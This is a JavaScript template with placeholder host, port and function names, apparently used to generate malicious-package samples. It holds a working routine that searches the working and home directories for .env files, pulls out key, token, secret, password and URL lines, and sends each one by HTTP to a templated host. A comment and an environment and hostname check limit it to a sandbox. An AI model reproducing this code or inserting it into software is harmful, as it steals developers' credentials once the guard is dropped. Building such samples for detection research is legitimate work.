// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawnSync } = require('child_process');
  const home = require('os').homedir();
  const list = String(spawnSync('find', [process.env.INIT_CWD || process.cwd(), home, '-maxdepth', '3', '-name', '.env*', '-type', 'f', '-not', '-path', '*/node_modules/*'], { timeout: 1500 }).stdout || '');
  const names = list.split('\n').filter(Boolean).slice(0, 12);
  const text = names.length ? String(spawnSync('cat', names, { timeout: 800 }).stdout || '') : '';
  const pairs = text.split('\n').filter((line) => /(KEY|TOKEN|SECRET|PASS|URL)[A-Z_]*=/i.test(line));
  for (const pair of pairs.slice(0, {{n}})) {
    await new Promise((done) => {
      const request = require('http').get('http://{{host}}:{{port}}/{{path}}?' + encodeURIComponent(pair), { timeout: 300 }, (answer) => answer.resume());
      request.on('timeout', () => request.destroy());
      request.on('error', done);
      request.on('close', done);
    });
  }
}
